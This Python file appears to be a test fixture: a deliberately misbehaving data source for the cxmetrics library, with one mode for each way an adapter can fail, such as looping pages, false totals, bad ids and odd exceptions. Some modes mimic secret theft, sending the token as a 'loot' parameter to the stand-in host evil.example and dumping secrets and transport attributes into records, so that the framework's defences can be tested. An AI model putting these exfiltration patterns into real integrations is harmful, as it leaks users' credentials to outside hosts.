"""The source and its modes: each is one way in which an adapter, or a vendor, can be wrong."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime, timedelta
from itertools import count
from typing import Any, ClassVar, Final, Literal

from attrs import frozen

from cxmetrics.records import Customer
from cxmetrics.sources import Page, Read, Since, Source, Stream, StreamName
from cxmetrics.sources.auth import Auth, HeaderToken
from cxmetrics.sources.config import Secret, Url, option
from cxmetrics.sources.http import Http
from cxmetrics.sources.slot import Slot
from cxmetrics.sources.strict import instant, member

_DAY_ONE: Final = datetime(2026, 1, 1, tzinfo=UTC)
_SIZE: Final = 3

Mode = Literal[
    "honest",
    "repeats a page",
    "cycles",
    "endless pages",
    "endless empty pages",
    "total too high",
    "total too low",
    "claims an order",
    "duplicates",
    "edits twice",
    "future stamps",
    "off scale",
    "no ids",
    "other ids",
    "huge page",
    "raises in the middle",
    "raises in reading",
    "stops without an end",
    "exits",
    "no pages",
    "odd pages",
    "odd reads",
    "other records",
    "odd cursors",
    "elsewhere",
    "reveals",
    "carries the secret elsewhere",
    "shows the secret",
    "digs in the transport",
]


@frozen(kw_only=True)
class Config:
    """The settings."""

    mode: Mode = option(default="honest", help="What to do wrong.")
    objects: int = option(default=10, help="How many objects there are.")
    url: Url | None = option(default=None, help="A server to ask; most modes ask nobody.")
    token: Secret | None = option(default=None, secret=True, help="A secret to be after.")


class Hostile(Source[Config]):
    """Objects with the ids r0, r1, …, one a day from 2026-01-01, rated 0 to 10."""

    name = "hostile"
    title = "Hostile: lies, loops, reorders and duplicates, to test cxmetrics"
    Config = Config
    origin = "http://127.0.0.1"
    streams: ClassVar[tuple[Stream, ...]] = (Stream(name="responses", ordered=True),)

    def base(self) -> str:
        """Return the address of the server, if there is one."""
        return f"{self.config.url}/" if self.config.url else ""

    def auth(self) -> Auth | None:
        """Sign with the secret, if there is one."""
        return None if self.config.token is None else HeaderToken("X-Token", "token")

    def pages(self, http: Http, stream: StreamName, since: Since) -> Iterator[Page]:  # noqa: ARG002
        """Walk, as the mode says."""
        yield from MODES[self.config.mode](self, http, since)

    def read(self, stream: StreamName, raw: Any, context: Mapping[str, Any]) -> Read:  # noqa: ARG002
        """Read an object."""
        if "read" in raw:
            return _odd_read(raw)  # type: ignore[no-any-return]  # that is the point
        at = instant(member(raw, "$.updated_at", str))
        name = raw["id"]
        record = {
            "id": str(name) if type(name) is int else name,
            "rating": raw["rating"],
            "scale": "0:10",
            "answered_at": at,
            "verbatim": raw.get("verbatim"),
        }
        return Read(id=raw["id"], records=[record], updated_at=at)

    # -- what there is -----------------------------------------------------------------------------

    def objects(self, since: Since | None = None) -> list[dict[str, Any]]:
        """Return what an honest vendor has, from a mark on."""
        found = [
            {"id": f"r{at}", "rating": at % 11, "updated_at": _stamp(at)}
            for at in range(self.config.objects)
        ]
        if since is None or since.at is None:
            return found
        return [raw for raw in found if instant(raw["updated_at"]) >= since.at]


def _stamp(day: float) -> str:
    return (_DAY_ONE + timedelta(days=day)).isoformat()


def _paged(found: list[dict[str, Any]], start: int = 0, total: int | None = None) -> Iterator[Page]:
    for at in range(start, len(found), _SIZE):
        yield Page(found[at : at + _SIZE], {"at": at + _SIZE}, total=total)


# -- modes -----------------------------------------------------------------------------------------


def _honest(source: Hostile, _: Http, since: Since) -> Iterator[Page]:
    found = source.objects(since)
    start = since.resume["at"] if isinstance(since.resume, dict) and "at" in since.resume else 0
    yield from _paged(found, start, len(found))


def _repeats(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    page = next(_paged(source.objects()))
    while True:
        yield page


def _cycles(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    pages = list(_paged(source.objects()))
    while True:
        yield from pages


def _endless(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    yield from _paged(source.objects())
    for at in count(source.config.objects):
        yield Page([{"id": f"x{at}", "rating": 5, "updated_at": _stamp(0)}], {"at": at})


def _empty(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    yield from _paged(source.objects())
    for at in count():
        yield Page([], {"empty": at})


def _too_high(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    yield from _paged(source.objects(), total=1_000)


def _too_low(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    yield from _paged(source.objects(), total=1)


def _order(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    """Send the newest first, and break off before the oldest."""
    for page in list(_paged(source.objects()[::-1]))[:-1]:
        yield Page(page.records)
    raise ConnectionError("the line went dead")


def _duplicates(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    found = source.objects()
    yield from _paged([*found, *found[::-1], *found])


def _edits(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    """Send each object, then a later version, then the earlier one again."""
    for raw in source.objects():
        before = {**raw, "rating": (raw["rating"] + 1) % 11}
        before["updated_at"] = (instant(raw["updated_at"]) - timedelta(hours=1)).isoformat()
        yield Page([before, raw, before], {"at": raw["id"]})
        yield Page([before], {"again": raw["id"]})


def _future(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    found = source.objects()
    yield from _paged([*found, {"id": "late", "rating": 5, "updated_at": "2999-01-01T00:00:00Z"}])


def _off_scale(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    odd: list[Any] = [
        11, -1, 9.5, float("nan"), float("inf"), "9_0", " 9 ", "1e1", "٩", True, [9], {"v": 9},
        10**30, "eleven",
    ]  # fmt: skip
    wrong = [
        {"id": f"w{at}", "rating": value, "updated_at": _stamp(0)} for at, value in enumerate(odd)
    ]
    yield Page(wrong, {"at": 0})
    yield from _paged(source.objects())


def _no_ids(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    odd: list[Any] = [None, "", "  ", 1.5, True, [], {"id": 1}, "x" * 10_000]
    yield Page([{"id": each, "rating": 5, "updated_at": _stamp(0)} for each in odd], {"at": 0})
    yield Page([{"rating": 5, "updated_at": _stamp(0)}, 7, None, "text", [1]], {"at": 1})
    yield from _paged(source.objects())


def _other_ids(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    """Send the ids as numbers, once: 12 and "12" are one id."""
    found = source.objects()
    numbers = [{**raw, "id": int(raw["id"][1:])} for raw in found]
    texts = [{**raw, "id": raw["id"][1:]} for raw in found]
    yield from _paged([*numbers, *texts])
    yield from _paged(found)


def _huge(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    many = [{"id": f"h{at}", "rating": at % 11, "updated_at": _stamp(0)} for at in range(5_000)]
    yield Page([*many, *source.objects()], {"at": 0})


def _raises(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    yield from list(_paged(source.objects()))[:2]
    raise ZeroDivisionError("CANARY-in-an-error")


def _raises_reading(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    odd = [{"id": f"e{at}", "read": "raises", "what": at} for at in range(len(_ERRORS))]
    yield Page(odd, {"at": 0})
    yield from _paged(source.objects())


def _stops(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    yield from list(_paged(source.objects()))[:1]
    raise RecursionError


def _exits(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    yield from list(_paged(source.objects()))[:1]
    raise SystemExit(0)


def _no_pages(_: Hostile, __: Http, ___: Since) -> Iterator[Page]:
    return None  # type: ignore[return-value]


def _odd_pages(source: Hostile, _: Http, __: Since) -> Iterator[Any]:
    yield from list(_paged(source.objects()))[:1]
    yield "page"


def _odd_reads(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    odd = [{"id": f"o{at}", "read": "returns", "what": at} for at in range(_RETURNS)]
    yield Page(odd, {"at": 0})
    yield from _paged(source.objects())


def _other_records(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    yield from list(_paged(source.objects()))[:1]
    yield Page([Customer(id="c1")], {"at": 1})


def _odd_cursors(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    found = source.objects()
    yield Page(found[:5], {"at": 5})
    yield Page(found[5:], {"not": object()})


def _elsewhere(source: Hostile, http: Http, _: Since) -> Iterator[Page]:
    yield from list(_paged(source.objects()))[:1]
    http.get("https://evil.example/collect")


def _reveals(source: Hostile, _: Http, __: Since) -> Iterator[Page]:
    """Ask the settings for the secret, in every way they offer."""
    yield from list(_paged(source.objects()))[:1]
    token = source.config.token
    told = f"{token} {token!r} {source.config}"
    yield Page([{"id": "s1", "rating": 5, "updated_at": _stamp(0), "verbatim": told}], {"at": 1})
    if token is not None:
        token.reveal()


def _carries(source: Hostile, http: Http, _: Since) -> Iterator[Page]:
    """Put the secret into an address of another host."""
    yield from list(_paged(source.objects()))[:1]
    http.get("https://evil.example/collect", params={"loot": Slot("token")})


def _shows(source: Hostile, http: Http, _: Since) -> Iterator[Page]:
    """Let the vendor repeat the secret, and raise with what it says."""
    yield from list(_paged(source.objects()))[:1]
    http.get("echo", params={"loot": Slot("token")})


def _digs(source: Hostile, http: Http, _: Since) -> Iterator[Page]:
    """Store everything that the transport shows of itself without a leading underscore."""
    yield from list(_paged(source.objects()))[:1]
    shown = [f"{name}={getattr(http, name)!r}" for name in dir(http) if not name.startswith("_")]
    told = {"id": "s1", "rating": 5, "updated_at": _stamp(0), "verbatim": f"{http!r} {shown}"}
    yield Page([told], {"at": 1})


class _ThingError(Exception):
    """Can't even be shown."""

    def __str__(self) -> str:
        raise ValueError("no text for you")

    __repr__ = __str__


_ERRORS: Final[tuple[Callable[[], BaseException], ...]] = (
    lambda: KeyError("CANARY-in-an-error"),
    lambda: ZeroDivisionError(),
    lambda: RecursionError(),
    lambda: StopIteration("CANARY-in-an-error"),
    lambda: MemoryError(),
    lambda: AssertionError("CANARY-in-an-error"),
    lambda: _ThingError(),
)
_RETURNS: Final = 9


def _odd_read(raw: Mapping[str, Any]) -> Any:
    """Raise, or return something that no adapter should."""
    name, what = raw["id"], raw["what"]
    if raw["read"] == "raises":
        raise _ERRORS[what]()
    good = {"id": name, "rating": 5, "scale": "0:10"}
    at = datetime(2026, 1, 1, tzinfo=UTC)
    odd: tuple[Callable[[], Any], ...] = (
        lambda: None,
        lambda: "read",
        lambda: Read(id=name, records=None, updated_at=at),  # type: ignore[arg-type]
        lambda: Read(id=name, records=[good, good], updated_at=at),
        lambda: Read(id=name, records=["text"], updated_at=at),  # type: ignore[list-item]
        lambda: Read(id=name, records=[good], updated_at=datetime(2026, 1, 1)),
        lambda: Read(id=name, records=[good], updated_at="today"),  # type: ignore[arg-type]
        lambda: Read(id=name, records=[good], updated_at=at, mark=7),
        lambda: Read(id=name, records=[{**good, "loot": 1}], updated_at=at),
    )
    return odd[what]()


MODES: Final[Mapping[str, Callable[[Hostile, Http, Since], Iterator[Any]]]] = {
    "honest": _honest,
    "repeats a page": _repeats,
    "cycles": _cycles,
    "endless pages": _endless,
    "endless empty pages": _empty,
    "total too high": _too_high,
    "total too low": _too_low,
    "claims an order": _order,
    "duplicates": _duplicates,
    "edits twice": _edits,
    "future stamps": _future,
    "off scale": _off_scale,
    "no ids": _no_ids,
    "other ids": _other_ids,
    "huge page": _huge,
    "raises in the middle": _raises,
    "raises in reading": _raises_reading,
    "stops without an end": _stops,
    "exits": _exits,
    "no pages": _no_pages,
    "odd pages": _odd_pages,
    "odd reads": _odd_reads,
    "other records": _other_records,
    "odd cursors": _odd_cursors,
    "elsewhere": _elsewhere,
    "reveals": _reveals,
    "carries the secret elsewhere": _carries,
    "shows the secret": _shows,
    "digs in the transport": _digs,
}
"""Every mode, with the walk it takes."""
